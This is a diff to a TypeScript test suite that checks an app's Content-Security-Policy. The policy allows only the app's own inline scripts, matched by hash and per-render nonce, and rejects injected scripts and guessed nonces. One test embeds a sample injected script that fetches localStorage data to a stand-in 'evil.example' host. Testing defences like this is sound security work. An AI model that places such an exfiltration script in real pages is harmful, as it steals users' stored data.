@@ -8,8 +8,9 @@ import { createApp } from "./app";
  * origin and Mapbox only. The real pages are checked in Chromium (e2e/fixtures.ts fails any
  * browser test on a CSP violation); here a stand-in page shows the policy follows the HTML.
  */
+/** A page whose `{nonce}` placeholders are the render's script nonce, as the app's own scripts get it. */
 const page = (html: string, type = "text/html; charset=utf-8") =>
-  createApp(async () => new Response(html, { headers: { "Content-Type": type } }));
+  createApp(async (_request, _env, _ctx, nonce) => new Response(html.replaceAll("{nonce}", nonce), { headers: { "Content-Type": type } }));
 
 async function policyOf(html: string, type?: string) {
   const res = await page(html, type).fetch(new Request("http://localhost/map"), env, createExecutionContext());
@@ -25,21 +26,29 @@ const directive = (policy: string, name: string) =>
   policy.split(";").map((d) => d.trim()).find((d) => d.startsWith(`${name} `))?.split(" ").slice(1) ?? [];
 
 describe("the pages' Content-Security-Policy", () => {
-  it("allows exactly the page's inline scripts by hash, never 'unsafe-inline', and leaves the HTML as it was", async () => {
+  it("allows exactly the app's inline scripts by hash, never 'unsafe-inline', and strips their nonce", async () => {
     const context = 'window.__remixContext = {"url":"/map"};';
     const loader = 'import * as route0 from "/assets/root-abc.js";\nwindow.__remixRouteModules = {"root":route0};';
-    const html = `<!DOCTYPE html><html><head><script src="/assets/entry.js" type="module"></script></head><body><script>${context}</script><script type="module" async="">${loader}</script></body></html>`;
+    const html = `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="{nonce}"/><script src="/assets/entry.js" type="module"></script></head><body><script nonce="{nonce}">${context}</script><script nonce="{nonce}" type="module" async="">${loader}</script></body></html>`;
     const { policy, body } = await policyOf(html);
     const scripts = directive(policy, "script-src");
     expect(scripts).toEqual(["'self'", `'sha256-${await sha256Base64(context)}'`, `'sha256-${await sha256Base64(loader)}'`]);
     expect(policy).not.toContain("unsafe-inline'; script");
     expect(scripts).not.toContain("'unsafe-inline'");
-    expect(body).toBe(html);
+    expect(body).not.toContain("nonce");
+    expect(body).toContain(`<script>${context}</script><script type="module" async="">${loader}</script>`);
   });
 
-  it("a script injected into the page would not match: another text, another hash", async () => {
-    const { policy } = await policyOf("<html><body><script>ok()</script></body></html>");
-    expect(directive(policy, "script-src")).not.toContain(`'sha256-${await sha256Base64("steal()")}'`);
+  it("does not allow a script injected into the page: without the render's nonce it is not hashed", async () => {
+    const injected = "fetch('https://evil.example/?' + localStorage.las)";
+    const { policy, body } = await policyOf(`<html><body><p><script>${injected}</script></p><script nonce="{nonce}">ok()</script></body></html>`);
+    expect(directive(policy, "script-src")).toEqual(["'self'", `'sha256-${await sha256Base64("ok()")}'`]);
+    expect(body).toContain(injected);
+  });
+
+  it("does not allow a script that guesses a nonce", async () => {
+    const { policy } = await policyOf(`<html><body><script nonce="0123456789abcdef0123456789abcdef">steal()</script></body></html>`);
+    expect(directive(policy, "script-src")).toEqual(["'self'"]);
   });
 
   it("lets the page connect to its own origin and Mapbox only", async () => {
